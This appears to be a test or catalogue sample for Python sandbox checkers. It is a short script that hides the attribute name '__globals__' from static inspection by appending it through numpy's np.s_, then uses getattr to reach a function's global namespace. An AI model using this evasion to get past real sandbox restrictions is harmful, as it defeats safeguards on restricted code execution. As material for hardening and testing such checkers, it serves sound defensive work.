# class: string-address
# mechanism: getattr
# how: np.s_[names] and pd.IndexSlice[names] give the very list back
# reaches: namespace __attack__
import numpy as np
def f():
    return 1
names = ["__name__"]
np.s_[names].append("__globals__")
print([getattr(f, name) for name in names])
